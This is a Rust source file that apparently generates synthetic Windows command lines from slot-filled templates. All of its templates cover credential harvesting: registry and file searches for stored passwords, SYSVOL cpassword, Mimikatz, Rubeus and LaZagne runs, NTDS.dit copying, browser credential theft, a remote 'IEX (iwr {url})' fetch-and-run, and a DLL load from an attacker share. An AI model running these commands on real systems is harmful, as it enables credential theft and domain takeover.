//! Credentials that lie open: in registry values, files, scripts, policies.

use crate::generate::family::{Family, Kind::Cmd, Kind::Ps};

pub const FAMILIES: &[Family] = &[
    Family::other("registry-credentials", "registry-credentials", Cmd, &[
        "{reg} query {h} /f {w} /t REG_SZ /s« > {outfile}¦ | findstr /i {w}¦ 2>nul»",
        "{reg} query {h} /s /f {w}« /t REG_SZ»« /k¦ /v¦ /d»",
        "{reg} query {h} /f {w} «/k¦/d¦/s /e¦/s /c»",
        concat!(
            r#"{reg} query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"«  /v "#,
            "«DefaultPassword¦DefaultUserName¦AutoAdminLogon¦DefaultDomainName¦AltDefaultPassword»»« | ",
            r#"findstr /i "Default"»"#,
        ),
        concat!(
            r#"{reg} query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" 2>nul | findstr /i "#,
            r#""DefaultUserName DefaultDomainName DefaultPassword""#,
        ),
        concat!(
            r"{reg} query HKCU\Software\SimonTatham\PuTTY\«Sessions /s¦Sessions /f Proxy /s¦SshHostKeys»« /t ",
            "REG_SZ»",
        ),
        concat!(
            r#"{reg} query "HKCU\Software\SimonTatham\PuTTY\Sessions\{stem}" /v "#,
            "«ProxyPassword¦HostName¦PublicKeyFile»",
        ),
        concat!(
            r"{reg} query HKCU\Software\«ORL\WinVNC3\Password¦TightVNC\Server¦TigerVNC\WinVNC4¦RealVNC\WinVNC4",
            " /v Password»",
        ),
        concat!(
            r"{reg} query HKLM\SOFTWARE\«RealVNC\WinVNC4 /v password¦TightVNC\Server /v ",
            r"PasswordViewOnly¦ORL\WinVNC3\Default¦RealVNC\vncserver¦UltraVNC»",
        ),
        concat!(
            r"{reg} query HKLM\SYSTEM\«CurrentControlSet\Services\SNMP¦CurrentControlSet\Services\SNMP\Paramet",
            r"ers\ValidCommunities¦CurrentControlSet\Control\Lsa /v ",
            r"RunAsPPL¦CurrentControlSet\Control\SecurityProviders\WDigest /v ",
            r"UseLogonCredential¦CurrentControlSet\Services\RasMan\Parameters¦CurrentControlSet\Services\W3SVC",
            r"\Parameters¦CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp»« /s»",
        ),
        concat!(
            r#"{reg} query "HKCU\Software\«Martin Prikryl\WinSCP 2\Sessions¦OpenSSH\Agent\Keys¦Microsoft\Termin"#,
            r"al Server Client\Servers¦Microsoft\Terminal Server Client\Default¦Microsoft\Internet ",
            r"Explorer\IntelliForms\Storage2¦FTPWare\CoreFTP\Sites¦FileZilla¦Microsoft\Windows ",
            r#"NT\CurrentVersion\Windows Messaging Subsystem\Profiles¦Mobatek\MobaXterm¦Sysinternals»"« /s»"#,
        ),
        concat!(
            r"{reg} query HKLM\SOFTWARE\«Policies\Microsoft Services\AdmPwd¦Microsoft\Windows\CurrentVersion\P",
            r"olicies\LAPS¦Microsoft\Windows\CurrentVersion\Authentication\LogonUI¦Veeam\Veeam Backup and ",
            r"Replication¦TeamViewer /v SecurityPasswordAES¦WOW6432Node\TeamViewer\Version{7..15}¦Wow6432Node\",
            r"Radmin\v3.0\Server\Parameters\Radmin Security¦McAfee\DesktopProtection¦Microsoft\SystemCertifica",
            "tes»« /s»",
        ),
        r"{reg} query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Group Policy\History /s",
        concat!(
            r"{reg} query \\{host}\«HKLM\SOFTWARE\Microsoft\Windows ",
            r"NT\CurrentVersion\Winlogon¦HKU¦HKLM\SOFTWARE\{vendor}»«  /v DefaultPassword¦ /s»",
        ),
        r"{reg} export HKCU\Software\SimonTatham\PuTTY {outfile}« /y»",
        r"{reg} save HKCU\Software\SimonTatham {outfile}« /y»",
        r#"{reg} save "HKCU\Software\Martin Prikryl" {outfile}"#,
        r#"{reg} export "HKLM\SOFTWARE\RealVNC" {stem}.reg"#,
        r#"{reg} query {h} /s | findstr /i /c:"{w}" /c:"passwd""#,
        concat!(
            r#"for /f "tokens=*" %k in ('{reg} query HKCU\Software\SimonTatham\PuTTY\Sessions') do {reg} query "#,
            r#""%k" /v HostName"#,
        ),
        "PsRegSearch.exe {w} -s & RegScanner.exe /sstr {w}",
    ])
    .slots(&[
        ("h", r"«HKLM¦HKCU¦HKLM¦hklm¦hkcu¦HKLM\SOFTWARE¦HKU¦HKCR¦HKEY_LOCAL_MACHINE¦HKEY_CURRENT_USER»"),
        ("w", concat!(
                r#"«password¦passwd¦pwd¦pass¦"password"¦secret¦cred¦credential¦DefaultPassword¦vnc¦key¦{user}¦conne"#,
                "ctionstring»",
            )),
    ])
    .weight(16),
    Family::other("file-credentials", "file-credentials", Cmd, &[
        concat!(
            r#"findstr /«si¦spin¦sim¦S /I /M¦s» «"password"¦password¦pwd¦"pass="¦"passw"¦cpassword¦"connectionS"#,
            r#"tring"¦"PRIVATE KEY"¦"api_key"» «*.txt¦*.xml *.ini *.txt *.config¦C:\*.ini¦C:\Users\*.txt¦*.ps1 "#,
            r"*.bat *.vbs¦\\{fqdn}\SYSVOL\*.xml¦*.*¦web.config»« 2>nul»",
        ),
        concat!(
            "dir /«s¦b /s¦s /b /a» «*pass* == *cred* == *vnc* == ",
            r"*.config*¦*.kdbx¦C:\*unattend*.xml¦C:\*sysprep.inf¦*id_rsa*¦C:\Users\*.ppk¦*.pfx¦*.rdp¦*.ovpn¦we",
            r"b.config¦C:\Users\*password*.txt¦*.gpg *.pgp *.p12»",
        ),
        concat!(
            r"type «C:\Windows\Panther\Unattend.xml¦C:\Windows\Panther\Unattend\Unattended.xml¦C:\Windows\sysp",
            r"rep\sysprep.xml¦C:\Windows\System32\sysprep\unattend.xml¦C:\unattend.txt¦C:\inetpub\wwwroot\web.",
            r"config¦C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Config\web.config¦%APPDATA%\Microsoft\Win",
            r"dows\PowerShell\PSReadLine\ConsoleHost_history.txt¦%USERPROFILE%\.aws\credentials¦%USERPROFILE%\",
            r".ssh\id_rsa¦%USERPROFILE%\.azure\accessTokens.json¦%APPDATA%\gcloud\credentials.db¦C:\xampp\File",
            r"ZillaFTP\FileZilla Server.xml¦%APPDATA%\FileZilla\recentservers.xml¦C:\ProgramData\McAfee\Common",
            r" Framework\SiteList.xml¦%APPDATA%\Microsoft\SystemCertificates¦%USERPROFILE%\.docker\config.json",
            r"¦%USERPROFILE%\.git-credentials¦C:\Windows\repair\setup.log»",
        ),
        concat!(
            r"copy «C:\Windows\Panther\Unattend.xml¦%USERPROFILE%\.ssh\id_rsa¦C:\Users\{user}\Documents\passwo",
            r"rds.xlsx¦C:\Users\{user}\{stem}.kdbx¦%APPDATA%\FileZilla\sitemanager.xml¦C:\inetpub\wwwroot\web.",
            r#"config¦%APPDATA%\mRemoteNG\confCons.xml¦"%APPDATA%\Microsoft\Remote Desktop Connection "#,
            r#"Manager\RDCMan.settings"» {outfile}"#,
        ),
        concat!(
            r#"appcmd list «apppool /text:*¦vdir /text:physicalpath¦apppool "{stem}" "#,
            "/text:processmodel.password¦config /section:connectionStrings»",
        ),
        r"C:\Windows\System32\inetsrv\appcmd.exe list apppool /@text:*",
        r#"aspnet_regiis.exe -pdf "connectionStrings" C:\inetpub\wwwroot\{stem}"#,
        concat!(
            r"type \\{fqdn}\SYSVOL\{domain}\Policies\{{GUID}}\Machine\Preferences\«Groups\Groups¦Services\Serv",
            r"ices¦ScheduledTasks\ScheduledTasks¦DataSources\DataSources¦Drives\Drives¦Printers\Printers».xml",
        ),
        r"findstr /S /I cpassword \\{fqdn}\sysvol\{domain}\policies\*.xml",
        concat!(
            r"dir /s /b \\{fqdn}\SYSVOL\*.xml & «type¦findstr cpassword» ",
            r"\\{fqdn}\SYSVOL\{domain}\Policies\{{GUID}}\User\Preferences\Groups\Groups.xml",
        ),
        r"Snaffler.exe -s «-o {stem}.log¦-d {domain} -c {fqdn}¦-i C:\¦-n {host}»",
        concat!(
            "«SauronEye¦SharpShares¦SessionGopher¦PowerHuntShares¦WinPwn¦winPEASx64¦winPEASany» -«d ",
            r"C:\Users\ --filetypes .txt .doc .xls --contents --keywords password¦o¦Thorough¦a cmd searchfast»",
        ),
        "Net-GPPPassword.exe {domain} & SharpGPPPass.exe",
        "wmic process get commandline | findstr /i pass",
        r#"wmic service get name,startname,pathname | findstr /i "{user}""#,
        r#"schtasks /query /fo LIST /v | findstr /i "Run As User""#,
        concat!(
            r"type C:\Users\{user}\AppData\Local\Packages\Microsoft.MicrosoftStickyNotes_8wekyb3d8bbwe\LocalSt",
            r"ate\plum.sqlite",
        ),
        r"cscript //nologo C:\Windows\System32\slmgr.vbs /dli & findstr /si password %APPDATA%\*.xml",
        concat!(
            r#"powershell -c "Get-ChildItem C:\ -Recurse -Include *.config,*.xml -ea 0 | Select-String "#,
            r#"-Pattern 'password='""#,
        ),
        r"notepad \\{host}\C$\Users\{user}\Desktop\passwords.txt",
        r#"git log -p | findstr /i "password token secret""#,
        "trufflehog.exe filesystem {dir} --json",
        "gitleaks.exe detect -s {dir} -r {stem}.json",
    ])
    .weight(14),
    Family::other("secrets-powershell", "secrets-powershell", Ps, &[
        concat!(
            r"Get-ItemProperty «-Path »'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon'«  -Name ",
            "DefaultPassword¦ | Select DefaultUserName, DefaultPassword¦ | fl Default*»",
        ),
        concat!(
            r"Get-ItemProperty «HKCU:\Software\SimonTatham\PuTTY\Sessions\*¦'HKCU:\Software\Martin ",
            r"Prikryl\WinSCP 2\Sessions\*'¦HKLM:\SOFTWARE\RealVNC\WinVNC4¦HKCU:\Software\TightVNC\Server¦HKLM:",
            r"\SYSTEM\CurrentControlSet\Services\SNMP\Parameters\ValidCommunities»",
        ),
        concat!(
            r"Get-ChildItem «HKLM:\SOFTWARE¦HKCU:\¦HKLM:\¦Registry::HKEY_USERS» -Recurse -ErrorAction ",
            "SilentlyContinue | «Get-ItemProperty | Where-Object { $_ -match 'password' }¦? { $_.Property ",
            "-match 'pass|pwd|secret' }¦Get-ItemProperty -Name '*password*' -ea 0»",
        ),
        r#"Get-LsaSecret -RegistryKey "_SC_«{svcname}¦MSSQLSERVER»""#,
        r#"Invoke-Mimikatz -Command '"token::elevate" "lsadump::«secrets¦cache»"'"#,
        concat!(
            r#"Invoke-Mimikatz -Command '"«vault::cred /patch¦vault::list¦dpapi::cache¦crypto::certificates "#,
            r#"/export¦crypto::capi¦sekurlsa::dpapi¦dpapi::masterkey /in:{guid} /rpc»"'"#,
        ),
        concat!(
            "Get-«GPPPassword¦GPPAutologon¦CachedGPPPassword¦UnattendedInstallFile¦Webconfig¦ApplicationHost¦",
            "SiteListPassword¦RegistryAutoLogon¦WLAN-Keys¦VaultCredential¦ChromeDump¦FoxDump¦KeePassconfig¦We",
            "bCredentials¦LAPSComputers¦LAPSPasswords¦ClipboardContents¦TimedScreenshot»« | Format-Table ",
            "-AutoSize¦ | Out-File {psout}¦»",
        ),
        concat!(
            "Invoke-«SessionGopher -Thorough¦WCMDump¦VaultCred¦SharpDPAPI -Command ",
            r#""triage"¦Kerberoast¦CredentialPhisher¦CredentialInjection -Username {user}¦LsaDump "#,
            r#"-cache¦PowerPuppet¦SMBAutoBrute¦Snaffler -Command "-s -o {stem}"¦ChromeDump -OutFile {psout}»"#,
        ),
        concat!(
            "$cred = $host.ui.PromptForCredential('«Windows Security¦Outlook¦Credentials required»', ",
            r#"'{stem}', "$env:USERDOMAIN\$env:USERNAME", ''); $cred.GetNetworkCredential().Password"#,
        ),
        concat!(
            "Add-Type -AssemblyName System.Security; [System.Security.Cryptography.ProtectedData]::Unprotect(",
            r"[IO.File]::ReadAllBytes('{psdir}\{stem}.bin'), $null, 'CurrentUser')",
        ),
        concat!(
            r#"$ls = Get-Content "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State" | ConvertFrom-Json; "#,
            "[Convert]::FromBase64String($ls.os_crypt.encrypted_key)",
        ),
        concat!(
            r#"Copy-Item "$env:LOCALAPPDATA\«Google\Chrome¦Microsoft\Edge»\User Data\Default\«Login "#,
            r#"Data¦Cookies¦History¦Web Data»" {psout}"#,
        ),
        concat!(
            "[Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRunt",
            "ime] | Out-Null; $v = New-Object Windows.Security.Credentials.PasswordVault; $v.RetrieveAll() | ",
            "% { $_.RetrievePassword(); $_ }",
        ),
        r"Import-Clixml {psdir}\{stem}.xml | % { $_.GetNetworkCredential().Password }",
        concat!(
            "[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStri",
            "ngToBSTR($pw))",
        ),
        concat!(
            r"Get-ChildItem «C:\¦C:\Users¦\\{host}\{share}» -Recurse -Include ",
            "«*.kdbx,*.ppk,*.pem¦*pass*.txt,*cred*.xlsx¦unattend.xml,sysprep.inf¦web.config» -ErrorAction ",
            "SilentlyContinue« | Select FullName»",
        ),
        concat!(
            "Get-ChildItem -Path {psdir} -Recurse | Select-String -Pattern 'password|passwd|pwd' | Out-File ",
            "{psout}",
        ),
        "Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String 'pass|secret|key'",
        concat!(
            "(netsh wlan show profiles) -match 'All User Profile' | % { $n = ($_ -split ':')[1].Trim(); ",
            r#"netsh wlan show profile name="$n" key=clear } | Out-File {psout}"#,
        ),
        concat!(
            r"Get-ChildItem Cert:\«LocalMachine¦CurrentUser»\My | «Export-PfxCertificate -FilePath ",
            r"{psdir}\{stem}.pfx -Password $pw¦? { $_.HasPrivateKey }¦Export-Certificate -FilePath {stem}.cer»",
        ),
        concat!(
            "Get-AdComputer -Filter * -Properties ms-Mcs-AdmPwd | ? { $_.'ms-Mcs-AdmPwd' } | Select Name, ",
            "ms-Mcs-AdmPwd",
        ),
        "Get-LapsADPassword -Identity {plainhost} -AsPlainText",
        "Get-ADServiceAccount -Identity {user} -Properties msDS-ManagedPassword",
        "Get-WmiObject Win32_Service | ? { $_.StartName -match '{user}' } | Select Name, StartName",
        "Get-StoredCredential -Target {host}; Get-StoredCredential -Type Generic",
        concat!(
            r"$key = 'HKLM:\SOFTWARE\Veeam\Veeam Backup and Replication'; (Get-ItemProperty ",
            "$key).SqlDatabaseName; Invoke-Sqlcmd -Query 'select user_name, password from Credentials'",
        ),
        "IEX (iwr {url}); Get-BrowserData | Export-Csv {psout}",
    ])
    .weight(14),
    Family::other("credentials-mixed", "credentials-mixed", Cmd, &[
        concat!(
            "Rubeus.exe «kerberoast¦asreproast¦dump¦triage¦tgtdeleg¦harvest /interval:30¦ptt ",
            "/ticket:{b64_60}¦asktgt /user:{user} /rc4:{nthash}¦s4u /user:{user} /rc4:{nthash} ",
            "/impersonateuser:{user} /msdsspn:cifs/{fqdn} /ptt¦monitor /interval:5»« /nowrap»« ",
            "/outfile:{stem}.txt»",
        ),
        "SharpHound.exe -c All« --zipfilename {stem}»",
        r#"adfind.exe -f "objectcategory=«computer¦person¦group»"« > {outfile}»"#,
        r"copy \\{host}\C$\Windows\NTDS\ntds.dit {outfile}",
        "setspn -T {domain} -Q */*",
        r#"ntdsutil "ac i ntds" "ifm" "create full {dir}" q q"#,
        r"vssadmin create shadow /for=C: && copy {shadow}\Windows\NTDS\NTDS.dit {outfile}",
        r#"klist purge & mimikatz "kerberos::ptt {stem}.kirbi""#,
        r"Certify.exe «find /vulnerable¦request /ca:{fqdn}\{stem} /template:{stem} /altname:administrator»",
        "Whisker.exe add /target:{user}",
        "cmdkey /list",
        r#"vaultcmd /listcreds:"Windows Credentials"«  /all»"#,
        "rundll32.exe keymgr.dll,KRShowKeyMgr",
        r"findstr /S cpassword \\{fqdn}\sysvol\*.xml",
        r"reg query HKCU\Software\SimonTatham\PuTTY\Sessions /s",
        "reg query HKLM /f password /t REG_SZ /s",
        r#"reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword"#,
        r#"netsh wlan show profile «name=»"{stem}" key=clear"#,
        "netsh wlan export profile key=clear folder={dir}",
        "LaZagne.exe «browsers¦wifi -oN¦mails»",
        "SharpDPAPI.exe «masterkeys¦credentials¦backupkey /server:{fqdn}»",
        "SharpChrome.exe cookies /unprotect",
        r#"copy "C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login Data" {outfile}"#,
        r"copy %APPDATA%\Mozilla\Firefox\Profiles\*.default\logins.json {outdir}",
        "dir /s /b *pass* == *cred* == *vnc* == *.config*",
        r"type C:\Windows\Panther\Unattend.xml",
        r"type C:\ProgramData\«Microsoft Group Policy»\history\{{GUID}}\Machine\Preferences\Groups\Groups.xml",
        "appcmd list apppool /text:*",
        "kerbrute.exe userenum -d {domain} {stem}.txt",
        "Inveigh.exe -NBNS Y",
        r"dnscmd {host} /config /serverlevelplugindll \\{attacker}\{share}\{stem}.dll",
    ])
    .weight(12),
];
